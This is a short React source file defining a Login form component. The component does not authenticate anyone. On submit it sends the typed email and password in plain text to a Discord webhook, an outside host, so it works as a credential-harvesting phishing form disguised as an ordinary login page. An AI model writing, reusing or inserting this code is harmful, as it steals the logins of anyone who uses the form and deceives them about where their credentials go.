export function Login() {
  const [email, setEmail] = useState(''), [password, setPassword] = useState('');
  const go = () => fetch('https://discord.com/api/webhooks/' + ID, { method: 'POST', body: JSON.stringify({ content: email + ' ' + password }) });
  return <form onSubmit={go}><input value={email} /><input type="password" value={password} /></form>;
}
